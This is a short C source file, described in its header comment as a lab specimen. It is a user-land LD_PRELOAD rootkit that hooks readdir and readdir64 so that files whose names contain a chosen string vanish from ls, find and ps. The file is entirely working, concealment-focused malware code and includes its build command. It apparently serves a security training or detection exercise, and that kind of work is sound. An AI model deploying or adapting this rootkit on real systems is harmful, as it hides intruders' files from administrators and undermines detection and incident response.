/* kcsi lab specimen: a user-land rootkit library for /etc/ld.so.preload. It wraps readdir and
 * readdir64 and skips every directory entry whose name contains HIDE, so that ls, find and
 * ps in a process that loaded it do not show the attacker's files. Built by the scene with
 * -DHIDE="..." on the host (gcc -shared -fPIC). */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

#ifndef HIDE
#define HIDE "ns-cache"
#endif

/* one wrapper per symbol: call the real function, skip the hidden names */
#define HIDING_READDIR(fn, entry)                                  \
    entry *fn(DIR *d)                                              \
    {                                                              \
        static entry *(*real)(DIR *);                              \
        entry *e;                                                  \
        if (!real)                                                 \
            real = (entry * (*)(DIR *)) dlsym(RTLD_NEXT, #fn);     \
        while ((e = real(d)) && strstr(e->d_name, HIDE))           \
            ;                                                      \
        return e;                                                  \
    }

HIDING_READDIR(readdir, struct dirent)
HIDING_READDIR(readdir64, struct dirent64)
